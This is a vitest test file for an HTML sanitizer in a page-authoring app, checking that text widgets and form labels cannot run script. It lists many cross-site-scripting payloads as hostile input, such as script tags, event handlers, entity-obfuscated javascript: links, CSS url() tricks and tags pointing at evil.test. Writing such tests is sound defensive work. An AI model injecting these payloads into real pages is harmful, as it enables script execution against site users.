import { describe, expect, it } from 'vitest';
import type { FormWidget, TextV2Widget } from '@folio/model';
import { plainText, sanitizeTextHtml, sanitizeWidget } from '../src/sanitize';

// Widgets issue: "text HTML and form labels cannot run script (test with hostile input)".

/** Nothing in the output can run: no script element, event handler, script URL or CSS that loads or evaluates. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<\s*script/i);
  expect(html).not.toMatch(/<\s*(?:img|svg|iframe|object|embed|math|style|form|input|meta|link|base)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/(?:javascript|vbscript|data)\s*:/i);
  expect(html).not.toMatch(/url\s*\(|expression\s*\(|@import/i);
}

const hostile: [string, string][] = [
  ['a script element', '<p>Hello <script>alert(1)</script>world</p>'],
  ['an uppercase script element', '<SCRIPT SRC=//evil.test/x.js></SCRIPT>'],
  ['an img with onerror', '<img src=x onerror=alert(1)>'],
  ['an svg with onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
  ['an iframe', '<iframe src="https://evil.test/"></iframe>'],
  ['an iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a javascript: href', '<a href="javascript:alert(1)">x</a>'],
  ['a mixed-case, padded javascript: href', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['a javascript: href in decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['a javascript: href in hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['a javascript: href with &colon;', '<a href="javascript&colon;alert(1)">x</a>'],
  ['a javascript: href split by a tab entity', '<a href="java&#09;script:alert(1)">x</a>'],
  ['a javascript: href split by a newline', '<a href="java\nscript:alert(1)">x</a>'],
  ['a data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['an uppercase data: href', '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'],
  ['a vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['an onclick on an allowed tag', '<a href="https://ok.test/" onclick="alert(1)">x</a>'],
  ['an onmouseover on a paragraph', '<p onmouseover="alert(1)">x</p>'],
  ['style with url()', '<p style="background-image:url(javascript:alert(1))">x</p>'],
  ['style with expression()', '<p style="color:expression(alert(1))">x</p>'],
  ['style with an escaped url()', '<p style="font-family:x\\75 rl(javascript:alert(1))">x</p>'],
  ['style with a url() in an allowed property', '<p style="background-color:url(https://evil.test/)">x</p>'],
  ['a style element', '<style>@import "https://evil.test/x.css"; p{background:url(x)}</style><p>x</p>'],
  ['nested, unclosed tags', '<p><b>bold <i>italic<p>more<script>alert(1)'],
  ['a tag split by a script', '<scr<script>ipt>alert(1)</script>'],
  ['doubled brackets', '<<script>script>alert(1)<</script>/script>'],
  ['a script in a comment', '<!--<script>alert(1)</script>-->'],
  ['a conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['mathml confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['entity-encoded markup', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['a form with an input', '<form action="https://evil.test/"><input name="p"></form>'],
  ['a base tag', '<base href="https://evil.test/"><a href="/x">x</a>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['an object', '<object data="javascript:alert(1)"></object>'],
];

describe('sanitizeTextHtml (text v2 HTML, widgets-and-authoring.md §3)', () => {
  it.each(hostile)('%s cannot run', (_name, html) => {
    expectInert(sanitizeTextHtml(html));
  });

  it('keeps the allowed tags and their text', () => {
    const html =
      '<h1>T</h1><h6>t</h6><p>a<br>b <span>c</span> <strong>d</strong> <b>e</b> <em>f</em> <i>g</i> <u>h</u> <s>i</s> x<sub>2</sub> y<sup>3</sup></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote>';
    expect(sanitizeTextHtml(html)).toBe(html.replace('<br>', '<br />'));
  });

  it('drops tags and attributes off the list, keeping their text', () => {
    expect(sanitizeTextHtml('<div class="x" id="y"><p title="t" class="c">kept</p></div>')).toBe('<p>kept</p>');
  });

  it('keeps http(s), mailto, tel and relative links; drops any other scheme', () => {
    expect(sanitizeTextHtml('<a href="https://example.com/">x</a>')).toBe('<a href="https://example.com/">x</a>');
    expect(sanitizeTextHtml('<a href="http://example.com/">x</a>')).toBe('<a href="http://example.com/">x</a>');
    expect(sanitizeTextHtml('<a href="mailto:a@b.test">x</a>')).toBe('<a href="mailto:a@b.test">x</a>');
    expect(sanitizeTextHtml('<a href="tel:+441234">x</a>')).toBe('<a href="tel:+441234">x</a>');
    expect(sanitizeTextHtml('<a href="/user/mag/2/">x</a>')).toBe('<a href="/user/mag/2/">x</a>');
    expect(sanitizeTextHtml('<a href="#top">x</a>')).toBe('<a href="#top">x</a>');
    expect(sanitizeTextHtml('<a href="ftp://example.com/">x</a>')).toBe('<a>x</a>');
  });

  it('target is _self or _blank only; _blank links get rel="noopener noreferrer" whatever rel they came with', () => {
    expect(sanitizeTextHtml('<a href="/x" target="_blank" rel="opener">x</a>')).toBe('<a href="/x" target="_blank" rel="noopener noreferrer">x</a>');
    expect(sanitizeTextHtml('<a href="/x" target="_self" rel="opener">x</a>')).toBe('<a href="/x" target="_self">x</a>');
    expect(sanitizeTextHtml('<a href="/x" target="_top">x</a>')).toBe('<a href="/x">x</a>');
  });

  it('keeps the safe CSS properties with plain values, drops the rest', () => {
    const style =
      "color:#ff0000;background-color:rgba(0, 0, 0, 0.5);font-size:18px;font-weight:700;font-style:italic;font-family:'Times New Roman', serif;" +
      'text-decoration:underline;text-align:center;letter-spacing:1.2px;line-height:26px;text-transform:uppercase';
    expect(sanitizeTextHtml(`<p style="${style};position:fixed;background-image:none">x</p>`)).toBe(`<p style="${style}">x</p>`);
  });

  it('closes unclosed tags', () => {
    expect(sanitizeTextHtml('<p><b>bold <i>italic')).toBe('<p><b>bold <i>italic</i></b></p>');
  });

  it('is stable: sanitizing clean HTML again changes nothing (a change re-validates the stored widget)', () => {
    for (const [, html] of hostile) {
      const once = sanitizeTextHtml(html);
      expect(sanitizeTextHtml(once)).toBe(once);
    }
  });
});

describe('plainText (form labels)', () => {
  it.each(hostile)('%s leaves no tag', (_name, html) => {
    const text = plainText(html);
    expect(text).not.toMatch(/<[a-z!/]/i);
    expect(plainText(text)).toBe(text);
  });

  it('strips tags and decodes entities: a label is text', () => {
    expect(plainText('<b>Your name</b>')).toBe('Your name');
    expect(plainText('Terms &amp; conditions')).toBe('Terms & conditions');
    expect(plainText('Age < 18?')).toBe('Age < 18?');
    expect(plainText('&amp;lt;b&amp;gt;bold')).toBe('bold');
  });
});

describe('sanitizeWidget', () => {
  const common = { _id: 'a'.repeat(24), pid: 'b'.repeat(24), x: 0, y: 0, w: 100, h: 100 };

  it('cleans text v2 HTML and the text of its viewport variants', () => {
    const widget: TextV2Widget = {
      ...common,
      type: 'text',
      version: 2,
      text: '<p onclick="x()">a<script>alert(1)</script></p>',
      bg_color: 'ffffff',
      bg_opacity: 0,
      column_count: 1,
      column_gap: 16,
      viewport_phone_portrait: { text: '<img src=x onerror=alert(1)><p>phone</p>', column_count: 2 },
    };
    const clean = sanitizeWidget(widget);
    expect(clean.text).toBe('<p>a</p>');
    expect(clean.viewport_phone_portrait).toEqual({ text: '<p>phone</p>', column_count: 2 });
    expect(clean.viewport_tablet_portrait).toBeUndefined();
  });

  it('makes form labels, options, the submit label and the message plain text, in variants too', () => {
    const widget: FormWidget = {
      ...common,
      type: 'form',
      fields: [{ id: 'n', kind: 'select', label: '<img src=x onerror=alert(1)>Name', options: ['<b>One</b>', 'Two'] }],
      submit_label: '<script>alert(1)</script>Send',
      success_message: 'Thanks &amp; <i>bye</i>',
      viewport_tablet_portrait: { submit_label: '<svg onload=alert(1)>Go' },
    };
    const clean = sanitizeWidget(widget);
    expect(clean.fields).toEqual([{ id: 'n', kind: 'select', label: 'Name', options: ['One', 'Two'] }]);
    expect(clean.submit_label).toBe('Send');
    expect(clean.success_message).toBe('Thanks & bye');
    expect(clean.viewport_tablet_portrait).toEqual({ submit_label: 'Go' });
  });
});
